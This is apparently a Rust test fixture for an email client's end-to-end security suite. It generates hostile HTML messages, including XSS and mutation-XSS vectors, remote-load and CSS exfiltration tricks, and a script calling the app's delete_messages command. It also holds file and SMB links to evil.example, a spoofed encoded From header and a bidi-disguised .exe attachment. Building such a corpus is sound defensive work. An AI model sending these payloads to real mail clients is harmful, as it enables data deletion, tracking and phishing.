//! The hostile corpus of the end-to-end suite: messages built to run script, load from
//! the network or reach the app's commands, each delivered to the test account's Inbox
//! and opened in the real window. Every script payload would set a canary in the
//! window and call the app's commands, and every load would reach the local HTTP sink
//! the suite listens on; the suite proves neither happened.
//!
//! `{SINK}` is the sink's base URL (`http://127.0.0.1:PORT`), `{JS}` the script payload.

/// (name, HTML body) pairs. The names become subjects: "Hostile NN: name".
const VECTORS: &[(&str, &str)] = &[
    ("script element", "<p>a</p><script>{JS}</script>"),
    (
        "script with src",
        "<script src=\"{SINK}/script.js\"></script>",
    ),
    ("img onerror", "<img src=x onerror=\"{JS}\">"),
    (
        "svg onload",
        "<svg onload=\"{JS}\"><circle r=5></circle></svg>",
    ),
    (
        "body onload",
        "<html><body onload=\"{JS}\"><p>hi</p></body></html>",
    ),
    (
        "details ontoggle",
        "<details open ontoggle=\"{JS}\"><summary>s</summary></details>",
    ),
    (
        "iframe srcdoc",
        "<iframe srcdoc=\"<script>{JS}</script>\"></iframe>",
    ),
    ("iframe src", "<iframe src=\"{SINK}/iframe\"></iframe>"),
    ("object data", "<object data=\"{SINK}/object\"></object>"),
    ("embed src", "<embed src=\"{SINK}/embed\">"),
    (
        "mutation xss math",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"{JS}\"></style></mglyph></table></mtext></math>",
    ),
    (
        "mutation xss noscript",
        "<noscript><p title=\"</noscript><img src=x onerror={JS}>\"></p></noscript>",
    ),
    (
        "mutation xss svg style",
        "<svg><style><img src=x onerror=\"{JS}\"></style></svg>",
    ),
    ("javascript link", "<a href=\"javascript:{JS}\">open</a>"),
    (
        "form",
        "<form action=\"{SINK}/form\"><input name=q value=secret><button>Send</button></form>",
    ),
    (
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url={SINK}/refresh\">",
    ),
    (
        "base href",
        "<base href=\"{SINK}/base/\"><img src=\"relative.png\">",
    ),
    (
        "link stylesheet",
        "<link rel=\"stylesheet\" href=\"{SINK}/sheet.css\">",
    ),
    (
        "style import",
        "<style>@import url({SINK}/import.css); body { background: url({SINK}/style-bg) }</style>",
    ),
    (
        "font face",
        "<style>@font-face { font-family: x; src: url({SINK}/font) } p { font-family: x }</style><p>t</p>",
    ),
    (
        "css exfiltration",
        "<style>input[value^=s] { background: url({SINK}/exfil) }</style><input value=secret>",
    ),
    (
        "inline style url",
        "<div style=\"background: url({SINK}/inline-bg)\">x</div>",
    ),
    (
        "tracking pixel",
        "<img src=\"{SINK}/pixel.gif\" width=1 height=1>",
    ),
    (
        "srcset",
        "<img srcset=\"{SINK}/srcset.png 1x, {SINK}/srcset2.png 2x\">",
    ),
    (
        "video poster",
        "<video poster=\"{SINK}/poster\" src=\"{SINK}/video\"></video>",
    ),
    (
        "audio autoplay",
        "<audio src=\"{SINK}/audio\" autoplay></audio>",
    ),
    (
        "table background",
        "<table background=\"{SINK}/table-bg\"><tr><td>x</td></tr></table>",
    ),
    (
        "input image",
        "<input type=image src=\"{SINK}/input-image\">",
    ),
    (
        "prefetch and dns-prefetch",
        "<link rel=prefetch href=\"{SINK}/prefetch\"><link rel=dns-prefetch href=\"//heron-sink.invalid\">",
    ),
    (
        "svg data url",
        "<img src=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/&gt;\">",
    ),
    (
        "file smb and unc links",
        "<a href=\"file:///etc/passwd\">file</a> <a href=\"smb://evil.example/share\">smb</a> <a href=\"\\\\evil.example\\share\">unc</a>",
    ),
    (
        "template",
        "<template><img src=x onerror=\"{JS}\"></template>",
    ),
    ("xmp", "<xmp><img src=x onerror=\"{JS}\"></xmp>"),
    (
        "heron scheme forgery",
        "<img src=\"heron-mail://0000/remote/0\"><img src=\"heron-cid://0000/x\">",
    ),
];

/// The script payload: sets the canary in every window it can reach, calls the app's
/// commands (delete everything shown, mark all read) and reports to the sink.
fn script(sink: &str) -> String {
    format!(
        "try{{top.__heronPwned=1;parent.__heronPwned=1}}catch(e){{}}\
         try{{window.__TAURI_INTERNALS__.invoke('delete_messages',{{ids:[1,2,3]}})}}catch(e){{}}\
         try{{parent.__TAURI_INTERNALS__.invoke('sync_now')}}catch(e){{}}\
         fetch('{sink}/js');new Image().src='{sink}/js-img'"
    )
}

/// The corpus as raw messages, dated `now` so they sort at the top of the Inbox.
pub fn messages(sink: &str, now_unix: i64) -> Vec<Vec<u8>> {
    let js = script(sink).replace('"', "&quot;");
    let mut out: Vec<Vec<u8>> = VECTORS
        .iter()
        .enumerate()
        .map(|(i, (name, html))| {
            let body = html.replace("{JS}", &js).replace("{SINK}", sink);
            html_message(
                &format!("Hostile {:02}: {name}", i + 1),
                &format!("hostile-{:02}@heron.test", i + 1),
                "Mallory <mallory@evil.example>",
                &body,
                now_unix - i as i64,
            )
        })
        .collect();
    // Header attacks: Mailsploit-style From (an encoded word hiding another address and
    // a NUL), a bidi-reversed attachment name.
    out.push(
        format!(
            "Message-ID: <hostile-from@heron.test>\r\n\
             From: =?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3YAKGZha2Up?= <mallory@evil.example>\r\n\
             To: you@example.test\r\n\
             Subject: Hostile {n:02}: encoded-word From\r\n\
             Date: {date}\r\n\
             MIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"h\"\r\n\r\n\
             --h\r\n\
             Content-Type: text/html; charset=utf-8\r\n\r\n\
             <p>Invoice attached.</p><img src=\"{sink}/from-pixel\">\r\n\
             --h\r\n\
             Content-Type: application/octet-stream; name*=utf-8''invoice%E2%80%AEfdp.exe\r\n\
             Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n\
             TVqQAAMAAAAEAAAA\r\n\
             --h--\r\n",
            n = VECTORS.len() + 1,
            date = rfc2822(now_unix - VECTORS.len() as i64),
        )
        .into_bytes(),
    );
    out
}

/// How many messages [`messages`] makes.
pub fn count() -> usize {
    VECTORS.len() + 1
}

fn html_message(subject: &str, id: &str, from: &str, html: &str, date: i64) -> Vec<u8> {
    format!(
        "Message-ID: <{id}>\r\nFrom: {from}\r\nTo: you@example.test\r\nSubject: {subject}\r\n\
         Date: {}\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n",
        rfc2822(date)
    )
    .into_bytes()
}

fn rfc2822(unix: i64) -> String {
    heron_harness::seed::rfc5322_date(unix, 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_vector_carries_its_payload() {
        let all = messages("http://127.0.0.1:9", 1_800_000_000);
        assert_eq!(all.len(), count());
        for m in &all {
            let text = String::from_utf8_lossy(m);
            assert!(!text.contains("{JS}") && !text.contains("{SINK}"), "{text}");
        }
    }
}
